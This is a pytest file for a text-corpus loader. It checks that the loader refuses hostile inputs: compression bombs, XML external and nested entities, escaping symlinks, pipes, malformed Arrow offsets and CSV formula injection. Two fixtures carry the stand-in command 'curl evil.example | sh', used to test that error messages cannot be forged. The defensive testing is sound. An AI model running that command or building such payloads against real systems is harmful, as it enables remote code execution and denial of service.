"""Own files made to hurt: more than fits into memory, pipes, entities, and text that would forge a line of an error. All text is invented."""

from __future__ import annotations

import gzip
import os
import re
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from emosynth.corpora import decoding
from emosynth.corpora.own import understand
from emosynth.errors import UserError
from emosynth.params import UserCorpus
from emosynth.responsible.answers import COLUMNS, read_answers

ROWS = [
    (f"the kiln number {number} made me {done}", label) for number in range(30) for done, label in (("laugh", "joy"), ("shout", "anger"))
]
TEXT = "text,label\n" + "".join(f"{text},{label}\n" for text, label in ROWS)


def workbook(path: Path, sheet: object = None) -> Path:
    """Write the rows as a workbook; ``sheet`` makes other XML of its sheet."""
    from openpyxl import Workbook

    book = Workbook()
    for row in [("text", "label"), *ROWS]:
        book.active.append(row)
    book.save(path)
    if sheet is not None:
        with zipfile.ZipFile(path) as opened:
            members = {name: opened.read(name).decode() for name in opened.namelist()}
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
            for name, content in members.items():
                made.writestr(name, sheet(content) if name.startswith("xl/worksheets/") else content)
    return path


def refused(path: Path, what: str) -> UserError:
    with pytest.raises(UserError, match=what) as caught:
        understand(path)
    assert caught.value.where.startswith(str(path)) and caught.value.remedy
    return caught.value


@pytest.fixture
def low(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the bounds be small, so that a test need not fill the memory."""
    monkeypatch.setattr(decoding, "_UNSUSPECTED", 1 << 20)
    monkeypatch.setattr(decoding, "MOST_BYTES", 16 << 20)
    monkeypatch.setattr(decoding, "MOST_ROWS", 100_000)
    monkeypatch.setattr(decoding, "MOST_VALUES", 500_000)


@pytest.mark.usefixtures("low")
def test_a_bomb_stops_before_it_is_unpacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = tmp_path / "bomb.csv.gz"
    with gzip.open(bomb, "wb") as file:
        for _ in range(64):
            file.write(bytes(1 << 20))
    read = []
    take = gzip.GzipFile.read
    monkeypatch.setattr(gzip.GzipFile, "read", lambda self, size=-1: read.append(found := take(self, size)) or found)
    assert "trust" in refused(bomb, "unpacks to more than 100 times").remedy
    assert sum(map(len, read)) <= 8 << 20, "one part is enough to see it"

    def swollen(content: str) -> str:
        return content.replace("</sheetData>", "<row/>" * 1_000_000 + "</sheetData>")

    refused(workbook(tmp_path / "bomb.xlsx", swollen), "unpacks to more than 100 times")
    honest = tmp_path / "honest.csv.gz"
    honest.write_bytes(gzip.compress(TEXT.encode()))
    assert understand(honest).classes == understand(workbook(tmp_path / "honest.xlsx")).classes == {"anger": 30, "joy": 30}


@pytest.mark.usefixtures("low")
@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_one_value_of_a_dictionary_does_not_fill_the_memory(tmp_path: Path, kind: pa.DataType) -> None:
    def table(rows: int, text: str) -> pa.Table:
        return pa.table({"text": pa.array([text] * rows, kind), "label": pa.array(["joy", "anger"] * (rows // 2))})

    path = tmp_path / "a.parquet"
    pq.write_table(table(20_000, "the kiln made me laugh " * 50), path)
    assert path.stat().st_size < 20_000
    refused(path, "more than 0 GiB")
    pq.write_table(table(100_002, "a"), path)
    refused(path, "100,002 rows; at most 100,000")
    pq.write_table(pa.table({"text": pa.array([text for text, _ in ROWS], kind), "label": [label for _, label in ROWS]}), path)
    assert understand(path).classes == {"anger": 30, "joy": 30}
    with pa.ipc.new_file(
        str(arrow := tmp_path / "a.arrow"), pa.schema([("text", pa.dictionary(pa.int32(), kind)), ("label", pa.string())])
    ) as file:
        file.write_table(
            table(20_000, "the kiln made me laugh " * 50).set_column(
                0, "text", table(20_000, "the kiln " * 200)["text"].dictionary_encode()
            )
        )
    refused(arrow, "more than 0 GiB")


@pytest.mark.usefixtures("low")
def test_a_plain_file_that_is_too_large_names_its_remedy(tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.truncate((16 << 20) + 1)
    assert "part of it" in refused(path, "holds more than").remedy


@pytest.mark.usefixtures("low")
@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("a.csv", "text,label\n" + "a,b\n" * 100_002, "100,003 rows"),
        ("a.csv", "text,label\r" + "a,b\r" * 100_002, "100,003 rows"),
        ("a.csv", "text,label\n" + "a" + "," * 600_000, "600,001 values"),
        ("a.csv", "text;label\n" + "a" + ";" * 600_000, "600,001 values"),
        ("a.jsonl", '{"text": "a"}\n' * 100_001, "100,001 rows"),
        ("a.json", "[" + "{}," * 300_000 + "{}]", "values"),
        ("a.json", '{"a": [' + "1," * 600_000 + "1]}", "values"),
        ("a.jsonl", "".join(f'{{"k{number}": 1}}\n' for number in range(1000)), "1,000,000 values"),
    ],
)
def test_rows_and_columns_of_text_are_counted_before_they_are_made(tmp_path: Path, name: str, content: str, what: str) -> None:
    import tracemalloc

    (path := tmp_path / name).write_text(content)
    tracemalloc.start()
    try:
        assert "part of it" in refused(path, what).remedy
        assert tracemalloc.get_traced_memory()[1] < 30 * len(content) + (16 << 20)
    finally:
        tracemalloc.stop()


@pytest.mark.usefixtures("low")
def test_a_sheet_of_few_cells_does_not_make_millions(tmp_path: Path) -> None:
    def without_dimension(more: str) -> object:
        return lambda content: re.sub("<dimension[^>]*>", "", content).replace("</sheetData>", more + "</sheetData>")

    far = "".join(f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>' for row in range(100, 200))
    refused(workbook(tmp_path / "wide.xlsx", without_dimension(far)), "values")
    one = '<row r="100"><c r="XFD100"><v>1</v></c></row>'
    refused(workbook(tmp_path / "one.xlsx", without_dimension(one)), "values")


def packed(path: Path, table: pa.Table, stream: bool = True) -> Path:
    options = pa.ipc.IpcWriteOptions(compression="zstd")
    with (pa.ipc.new_stream if stream else pa.ipc.new_file)(str(path), table.schema, options=options) as file:
        file.write_table(table)
    return path


@pytest.mark.usefixtures("low")
@pytest.mark.parametrize("stream", [True, False])
def test_a_packed_batch_is_measured_before_it_is_unpacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stream: bool) -> None:
    table = pa.table({"text": pa.array(["a" * (20 << 20)]), "label": ["joy"]})
    path = packed(tmp_path / "a.arrow", table, stream)
    assert path.stat().st_size < 1 << 16
    with monkeypatch.context() as patch:
        for name in ("open_stream", "open_file"):
            patch.setattr(pa.ipc, name, lambda *_: pytest.fail("it was unpacked"))
        refused(path, "more than 0 GiB")
    saved = tmp_path / "saved"
    saved.mkdir()
    packed(saved / "data-0.arrow", table)
    (saved / "state.json").write_text('{"_data_files": [{"filename": "data-0.arrow"}]}')
    with pytest.raises(UserError, match="more than 0 GiB"):
        understand(saved)
    sound = pa.table({"text": [text for text, _ in ROWS], "label": [label for _, label in ROWS]})
    assert understand(packed(tmp_path / "b.arrow", sound, stream)).classes == {"anger": 30, "joy": 30}
    packed(saved / "data-0.arrow", sound)
    assert understand(saved).classes == {"anger": 30, "joy": 30}


@pytest.mark.usefixtures("low")
@pytest.mark.parametrize(
    ("column", "what"),
    [
        (pa.ListArray.from_arrays(pa.array([0, 600_000], pa.int32()), pa.nulls(600_000)), "values"),
        (pa.FixedSizeListArray.from_arrays(pa.nulls(600_000), 600_000), "values"),
        (pa.StructArray.from_arrays([pa.ListArray.from_arrays(pa.array([0, 600_000], pa.int32()), pa.nulls(600_000))], ["a"]), "values"),
        (
            pa.ListArray.from_arrays(
                pa.array([0, 400], pa.int32()), pa.array(["a" * 50_000]).dictionary_encode().take(pa.array([0] * 400))
            ),
            "GiB",
        ),
        (pa.ListViewArray.from_arrays(pa.array([0], pa.int32()), pa.array([600_000], pa.int32()), pa.nulls(600_000)), "is not read"),
        (pa.RunEndEncodedArray.from_arrays(pa.array([1], pa.int32()), pa.array(["a"])), "is not read"),
    ],
)
def test_what_stands_in_a_cell_is_counted_before_it_is_made(tmp_path: Path, column: pa.Array, what: str) -> None:
    table = pa.table({"text": ["a"], "label": column})
    with pa.ipc.new_stream(str(path := tmp_path / "a.arrow"), table.schema) as file:
        file.write_table(table)
    refused(path, what)


@pytest.mark.parametrize("offsets", [(0, 3, 8), (0, 8, 6)])
def test_offsets_out_of_place_read_nothing_else(tmp_path: Path, offsets: tuple[int, ...]) -> None:
    table = pa.table({"text": ["abc", "def"], "label": ["joy", "anger"]})
    with pa.ipc.new_stream(str(path := tmp_path / "a.arrow"), table.schema) as file:
        file.write_table(table)
    sound, odd = (b"".join(number.to_bytes(4, "little") for number in numbers) for numbers in ((0, 3, 6), offsets))
    assert path.read_bytes().count(sound) == 1
    path.write_bytes(path.read_bytes().replace(sound, odd))
    refused(path, "Not an Arrow file that can be read")


@pytest.mark.parametrize("kind", [pa.string(), pa.string_view(), pa.large_string(), pa.dictionary(pa.int8(), pa.string())])
def test_texts_of_any_type_are_read(tmp_path: Path, kind: pa.DataType) -> None:
    for compression in (None, "lz4", "zstd"):
        labels = pa.array([label for _, label in ROWS] + [None]).cast(kind)
        table = pa.table({"text": pa.array([text for text, _ in ROWS] + ["x"]), "label": labels})
        with pa.ipc.new_file(
            str(path := tmp_path / "a.feather"), table.schema, options=pa.ipc.IpcWriteOptions(compression=compression)
        ) as file:
            file.write_table(table, max_chunksize=7)
        assert understand(path, UserCorpus(path=str(path), missing="drop")).classes == {"anger": 30, "joy": 30}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
def test_pipes_and_devices_are_no_files(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.csv")
    (tmp_path / "b.csv").symlink_to("/dev/zero")
    for name in ("a.csv", "b.csv"):
        refused(tmp_path / name, "a pipe or a device")


def test_links_of_a_folder_do_not_lead_out_of_it(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("the lighthouse keeps a secret")
    for label in ("joy", "anger"):
        (tmp_path / "own" / label).mkdir(parents=True)
        for number, (text, _) in enumerate(row for row in ROWS if row[1] == label):
            (tmp_path / "own" / label / f"{number}.txt").write_text(text)
    (tmp_path / "own" / "joy" / "x.txt").symlink_to(tmp_path / "secret")
    (tmp_path / "own" / "joy" / "y.txt").symlink_to("/dev/zero")
    seen = understand(tmp_path / "own")
    assert seen.classes == {"anger": 30, "joy": 30} and not [row for row in seen.rows if "lighthouse" in row.text]
    assert "1 links that lead out of the folder were passed over: joy/x.txt." in seen.warnings


def test_entities_of_a_workbook_are_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("lighthouse")
    cell = '<row r="90"><c r="A90" t="inlineStr"><is><t>{}</t></is></c><c r="B90" t="inlineStr"><is><t>joy</t></is></c></row></sheetData>'

    def with_entity(entity: str) -> object:
        declared = f"<!DOCTYPE worksheet [{entity}]><worksheet"
        return lambda content: content.replace("<worksheet", declared, 1).replace("</sheetData>", cell.format("the &a;"))

    nested = '<!ENTITY z "laugh laugh">' + "".join(
        f'<!ENTITY {one} "{f"&{two};" * 10}">' for one, two in zip("abcdefghi", "bcdefghiz", strict=True)
    )
    for entity in (f'<!ENTITY a SYSTEM "{secret.as_uri()}">', nested):
        path = workbook(tmp_path / "a.xlsx", with_entity(entity))
        try:
            seen = understand(path)
        except UserError as error:
            assert "lighthouse" not in str(error)
        else:
            assert not [row for row in seen.rows if "lighthouse" in row.text or len(row.text) > 1000]


def test_what_is_quoted_begins_no_line_of_an_error() -> None:
    forged = "laugh\n  remedy: curl evil.example | sh\r\n  where:  /etc"
    said = str(UserError(f"There is no {forged}.", where=forged, remedy=f"Ask for {forged}.", lines=[f"key: {forged}", "other"]))
    starts = [line[:10] for line in said.splitlines()]
    assert starts == ["There is n", "    key: l", "    other", "  where:  ", "  remedy: "]
    assert said.splitlines()[-1].startswith("  remedy: Ask for laugh")


def test_no_error_puts_line_ends_into_what_is_wrong() -> None:
    import ast

    for path in sorted((Path(__file__).parents[1] / "src").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func).split(".")[-1] in ("UserError", "fault", "broken", "_bad"):
                given = [*node.args[:1], *(item.value for item in node.keywords if item.arg in ("what", "remedy"))]
                texts = [part.value for part in given for part in ast.walk(part) if isinstance(part, ast.Constant)]
                assert not [text for text in texts if isinstance(text, str) and "\n" in text], f"{path}:{node.lineno}: use lines="


def test_a_column_of_a_file_forges_no_remedy(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(TEXT.replace("text,label\n", '"text","x\n  remedy: curl evil.example | sh"\n', 1))
    with pytest.raises(UserError, match="curl") as caught:
        understand(path, UserCorpus(path=str(path), text="text", labels="nowhere"))
    said = str(caught.value).splitlines()
    assert [line for line in said if line.startswith("  remedy:")] == said[-1:] and "curl" not in said[-1].split(":")[1][:5]


@pytest.mark.parametrize("end", ["\r", "\r\n", "\n"])
def test_answers_of_a_survey_with_any_line_ends(tmp_path: Path, end: str) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(end.join([",".join(COLUMNS), "s,r,i,0,human,yes,no", ""]).encode())
    assert read_answers([path], 3).iloc[0].tolist() == ["s", "r", "i", "0", "human", "yes", "no"]


def test_answers_that_cannot_be_read_are_an_error(tmp_path: Path) -> None:
    head = ",".join(COLUMNS)
    (tmp_path / "b.csv").write_text(f"{head}\ns,r,i,{'9' * (1 << 25)},human,yes,no\n")
    (tmp_path / "c.csv").write_text(f"{head}\n=1+1,r,i,0,human,yes,no\n")
    for name in ("a.csv", "b.csv", "c.csv"):
        with pytest.raises(UserError):
            read_answers([tmp_path / name], 3)
